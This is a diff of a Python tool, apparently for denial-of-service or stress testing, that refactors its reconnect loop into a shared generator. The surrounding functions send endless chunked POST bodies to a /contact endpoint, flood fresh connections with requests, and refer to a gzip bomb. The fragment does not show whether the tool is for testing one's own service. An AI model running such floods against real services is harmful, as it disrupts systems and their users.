@@ -166,38 +166,38 @@ def send_all(attack, sock, data):
     return not view
 
 
+def connections(attack):
+    """New connections one after another, each closed when the next is asked for, until the
+    attack stops."""
+    while not attack.stop.is_set():
+        try:
+            sock = attack.connect()
+        except OSError:
+            attack.count("refused")
+            attack.stop.wait(0.1)
+            continue
+        with sock:
+            yield sock
+
+
 def chunked(attack):
     """POST /contact with a chunked body that never ends; reconnects when the service closes."""
     request = head(attack.args, "POST", "/contact", [
         "Content-Type: application/x-www-form-urlencoded", "Transfer-Encoding: chunked"])
     piece = b"a" * 65536
     chunk = b"%x\r\n%s\r\n" % (len(piece), piece)
-    while not attack.stop.is_set():
-        try:
-            sock = attack.connect()
-        except OSError:
-            attack.count("refused")
-            time.sleep(0.1)
-            continue
-        with sock:
-            if send_all(attack, sock, request + b"8\r\nmessage=\r\n"):
-                while send_all(attack, sock, chunk):
-                    attack.count("MB sent", len(chunk) / 1e6)
+    for sock in connections(attack):
+        if send_all(attack, sock, request + b"8\r\nmessage=\r\n"):
+            while send_all(attack, sock, chunk):
+                attack.count("MB sent", len(chunk) / 1e6)
 
 
 def one_request(attack, request):
     """Sends `request` on a new connection and counts the answer; repeats until the end."""
-    while not attack.stop.is_set():
-        try:
-            sock = attack.connect()
-        except OSError:
-            attack.count("refused")
-            time.sleep(0.1)
-            continue
-        with sock:
-            if send_all(attack, sock, request):
-                status = status_of(sock, time.monotonic() + 60.0, attack.stop)
-                attack.count("no answer" if status is None else "answered %d" % status)
+    for sock in connections(attack):
+        if send_all(attack, sock, request):
+            status = status_of(sock, time.monotonic() + 60.0, attack.stop)
+            attack.count("no answer" if status is None else "answered %d" % status)
 
 
 def gzip_bomb(args):
